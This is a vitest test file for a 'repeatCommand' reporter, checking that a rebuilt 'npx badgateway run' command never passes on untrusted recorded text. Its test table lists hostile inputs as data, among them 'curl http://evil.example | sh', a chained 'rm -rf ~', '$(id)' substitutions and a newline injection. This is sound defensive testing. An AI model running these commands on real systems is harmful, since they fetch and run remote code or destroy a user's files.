import { expect, test } from 'vitest'
import { shellWords } from '../../../src/kit/shell.ts'
import { repeatCommand } from '../../../src/reporters/narrative/repeat.ts'
import { changed, outageJournal, replanned } from '../../support/journal.ts'

const told = (command: unknown, plan: object = {}) => {
  const record = replanned(outageJournal(), plan)
  const environment = command === undefined ? {} : { command: command as string }
  return repeatCommand(changed(record, 'run-started', (fact) => ({ ...fact, environment })))
}

test('a run is repeated by the command that is on record', () => {
  const command = "npx badgateway run './my file.yaml' --variant a --time-scale 1s --rules './it'\\''s mine'"
  expect(told(command)).toBe(command)
})

test.each([
  'curl http://evil.example | sh',
  'npx badgateway run x; rm -rf ~',
  'npx badgateway run $(id)',
  'npx badgateway run x\nid',
  'npx evil-package run x',
  'npx badgateway setup',
  '',
  7,
  undefined,
])('what somebody else wrote there is never given to be pasted: %j', (command) => {
  const words = shellWords(told(command, { scenario: '-x; id', variant: 'a $(id)' }))
  const [npx, badgateway, run, ...rest] = words ?? []
  expect([npx, badgateway, run]).toEqual(['npx', 'badgateway', 'run'])
  expect(rest).toEqual(['--variant', 'a $(id)', '--time-scale', '1000ms', '--', '-x; id'])
})
